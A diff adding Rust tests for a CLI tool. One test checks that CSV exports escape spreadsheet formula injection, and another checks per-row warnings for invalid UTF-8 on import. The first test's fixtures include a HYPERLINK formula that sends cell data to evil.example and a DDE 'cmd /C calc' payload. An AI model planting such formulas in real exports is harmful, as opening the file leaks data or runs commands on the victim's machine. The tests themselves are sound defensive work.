@@ -334,3 +334,123 @@ fn a_skipped_row_leaves_no_organization_behind() {
         .collect();
     assert_eq!(orgs, ["Good Corp"], "the bad row's organization was not created");
 }
+
+/// The cells of a CSV export (its byte-order mark dropped), by row.
+fn csv_rows(path: &std::path::Path) -> Vec<Vec<String>> {
+    let text = std::fs::read_to_string(path).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    reader
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+#[test]
+fn csv_exports_mark_formulas_as_text_unless_raw_formulas_is_given() {
+    let env = Env::init("personal");
+    env.add(
+        "notes",
+        &[
+            "title==HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+            "text=@SUM(A1:A9)",
+        ],
+    );
+    env.add("notes", &["title=-2+3+cmd|' /C calc'!A0", "text=+44 20 7946 0018"]);
+    env.add("events", &["title=+Call", "duration_minutes=-5"]);
+    let safe = env.dir.path().join("notes.csv");
+    env.ok(&[
+        "export",
+        "notes",
+        "--columns",
+        "title,text",
+        "--out",
+        safe.to_str().unwrap(),
+    ]);
+    let mut rows = csv_rows(&safe).split_off(1);
+    rows.sort();
+    assert_eq!(
+        rows,
+        [
+            ["'-2+3+cmd|' /C calc'!A0", "+44 20 7946 0018"],
+            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "'@SUM(A1:A9)"],
+        ],
+        "text a spreadsheet would run starts with a ', a phone number is left as it is"
+    );
+    let events = env.dir.path().join("events.csv");
+    env.ok(&[
+        "export",
+        "events",
+        "--columns",
+        "title,duration_minutes",
+        "--out",
+        events.to_str().unwrap(),
+    ]);
+    assert_eq!(
+        csv_rows(&events)[1],
+        ["'+Call", "-5"],
+        "a negative number is a number, not a formula"
+    );
+
+    let raw = env.dir.path().join("raw.csv");
+    env.ok(&[
+        "export",
+        "notes",
+        "--columns",
+        "title,text",
+        "--raw-formulas",
+        "--out",
+        raw.to_str().unwrap(),
+    ]);
+    let mut rows = csv_rows(&raw).split_off(1);
+    rows.sort();
+    assert_eq!(
+        rows[1],
+        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)"]
+    );
+}
+
+#[test]
+fn bytes_that_are_not_utf8_are_named_by_file_and_row_in_the_import_report() {
+    let env = Env::init("personal");
+    let csv = env.dir.path().join("people.csv");
+    std::fs::write(
+        &csv,
+        b"First name,Last name\nAda,Lovelace\nJ\xffrg,M\xc3\n\xe2\x82Bob,Smith\n",
+    )
+    .unwrap();
+    let out = env.run(&[
+        "import",
+        csv.to_str().unwrap(),
+        "--section",
+        "contacts",
+        "--encoding",
+        "utf-8",
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{err}");
+    let warnings: Vec<&str> = err.lines().filter(|l| l.starts_with("warning: ")).collect();
+    assert_eq!(warnings.len(), 2, "one warning per row with bad bytes: {err}");
+    assert!(
+        warnings[0].contains("people.csv, row 3") && warnings[0].contains("U+FFFD"),
+        "{err}"
+    );
+    assert!(warnings[1].contains("people.csv, row 4"), "{err}");
+    let names: Vec<String> = env
+        .list_json(&["contacts"])
+        .iter()
+        .map(|r| field(r, "first_name").as_str().unwrap().to_string())
+        .collect();
+    assert!(
+        names.contains(&"J\u{FFFD}rg".to_string()),
+        "the rows are imported all the same: {names:?}"
+    );
+
+    std::fs::write(&csv, "First name\nZoë \u{FFFD} as typed\n").unwrap();
+    let clean = env.run(&["import", csv.to_str().unwrap(), "--section", "contacts"]);
+    assert!(
+        !String::from_utf8_lossy(&clean.stderr).contains("warning"),
+        "a U+FFFD that is in the file is no warning"
+    );
+}
